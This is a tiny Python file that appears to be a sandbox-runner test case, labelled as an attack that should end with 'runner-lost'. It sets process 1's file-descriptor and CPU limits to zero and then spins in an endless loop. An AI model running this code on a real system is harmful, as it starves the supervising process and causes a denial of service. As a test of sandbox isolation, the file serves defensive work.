# Attack: take descriptors and processor time from the runner
# Expected: runner-lost
import resource

for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU):
    resource.prlimit(1, limit, (0, 0))
while True:
    pass
